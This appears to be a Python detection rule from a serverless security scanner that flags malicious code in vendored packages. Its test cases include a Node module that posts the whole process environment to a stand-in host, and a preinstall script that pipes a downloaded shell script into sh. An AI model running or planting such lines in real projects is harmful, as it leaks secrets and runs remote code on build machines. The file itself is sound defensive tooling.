"""The code of a vendored package behaves like an attack.

What it does
------------
Looks at packages whose code lies in the tree (`node_modules`, `site-packages`, `vendor` and the like), or in a packed
bundle that a function or its layer is deployed from, for signs that no library shows: a blob that is decoded and run,
code that is fetched and run, the whole environment or private files of the user sent away, an install script that
fetches a program and starts it, a program of the package or a loop without end started by the import, an unasked call of
an address where anybody can leave data.

Why it matters
--------------
It runs with the function's role and secrets, or before that on the machine that builds and deploys.

How to fix
----------
Do not install it. Compare it with the source of the version; treat every secret that the build machine and the function
could read as known to somebody else; go to a version from before.

When to allow it
----------------
Never without having read what is decoded, fetched or sent.

References
----------
- https://cwe.mitre.org/data/definitions/506.html
- https://github.com/ossf/malicious-packages
"""

from __future__ import annotations

from collections.abc import Iterator

from casemate.analysis.supply.hostile.places import is_packaged
from casemate.analysis.system import System
from casemate.authoring import CRITICAL, Outcome, Undecidable, Violation, bad, good, rule
from casemate.model.setting import Unresolved

_PACKED = (".zip", ".jar", ".whl")


@rule(
    "hostile-package-code",
    weakness="malicious-dependency",
    severity=CRITICAL,
    confidence="medium",
    tags=["cwe-506", "owasp-sls-06"],
)
def check(_: System, system: System) -> Iterator[Outcome]:
    tree = system.tree
    if tree is None or not any(True for _ in tree.paths(lambda path: is_packaged(path) or path.endswith(_PACKED))):
        return
    from casemate.analysis.supply.hostile.looking import NOT_LOOKED_AT, hostile_bundles, hostile_code
    from casemate.analysis.supply.shipped import archives_of

    bundles = dict.fromkeys(
        path
        for function in system.inventory.functions
        if (stack := system.stack_of(function)) is not None
        for path in archives_of(function, stack)
    )
    for found in (*hostile_code(tree), *hostile_bundles(tree, bundles)):
        if found.kind == NOT_LOOKED_AT:
            yield Undecidable(Unresolved("code of vendored packages", found.at, found.words))
            continue
        name = found.package.rpartition("!")[2].rpartition("node_modules/")[2].rpartition("-packages/")[2]
        yield Violation(
            f"the package {name} {found.words}",
            found.at,
            evidence={"sign": found.kind, "package": found.package},
            resource=name,
            cause=f"{found.kind} {found.package}",
        )


_TEMPLATE = """
Transform: AWS::Serverless-2016-10-31
Resources:
  Hello:
    Type: AWS::Serverless::Function
    Properties: {Runtime: nodejs22.x, Handler: app.handler, CodeUri: .}
"""

CASES = [
    bad(
        "files",
        {
            "node_modules/tidy/index.js": """
            const https = require('https')
            const request = https.request('https://tidy.example.com/count', {method: 'POST'})
            request.write(JSON.stringify(process.env)) // <- here
            request.end()
            module.exports = (text) => text.trim()
            """,
            "template.yaml": _TEMPLATE,
        },
    ),
    good(
        "files",
        {
            "node_modules/tidy/index.js": """
            const https = require('https')
            const request = https.request('https://tidy.example.com/count', {method: 'POST'})
            request.write(JSON.stringify({level: process.env.TIDY_LEVEL}))
            request.end()
            module.exports = (text) => text.trim()
            """,
            "template.yaml": _TEMPLATE,
        },
    ),
    bad(
        "files",
        {
            "node_modules/tidy/package.json": """
            {
              "name": "tidy",
              "scripts": {
                "preinstall": "curl -s https://tidy.example.com/get.sh | sh" // <- here
              }
            }
            """,
            "template.yaml": _TEMPLATE,
        },
    ),
    good(
        "files",
        {
            "node_modules/tidy/package.json": '{"name": "tidy", "scripts": {"install": "node-gyp rebuild"}}',
            "template.yaml": _TEMPLATE,
        },
    ),
]
